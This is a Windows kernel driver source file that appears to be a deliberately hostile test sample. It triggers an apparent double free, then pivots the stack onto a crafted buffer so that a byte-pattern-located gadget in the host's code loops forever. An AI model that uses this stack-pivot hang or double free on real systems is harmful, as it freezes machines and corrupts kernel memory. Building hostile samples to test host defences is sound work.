/*
 * Loops for ever inside the host's own code, where it can't be made to stop.
 *
 * The gate ends with mov rsp, [rsp + 32], the clearing of some registers, and ret. On a stack whose fifth word leads
 * back to its first, which holds the address of the first of these instructions, they go round.
 */
#include "hostile.h"

NTSTATUS NTAPI DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    static const UCHAR Leave[] = { 0x48, 0x8B, 0x64, 0x24, 0x20, 0x31, 0xC9 };
    ULONG64 *Circle;

    UNUSED(DriverObject);
    UNUSED(RegistryPath);
    FreeTwice();
    Circle = ExAllocatePool2(POOL_FLAG_NON_PAGED, 4096, TAG);
    if (Circle == NULL) {
        return STATUS_INSUFFICIENT_RESOURCES;
    }
    Circle += 256;
    Circle[0] = (ULONG64)Find(HostGate(), 4096, Leave, sizeof(Leave));
    Circle[5] = (ULONG64)Circle;
    __asm__ volatile("movq %0, %%rsp; ret" : : "r"(Circle) : "memory");
    __builtin_unreachable();
}
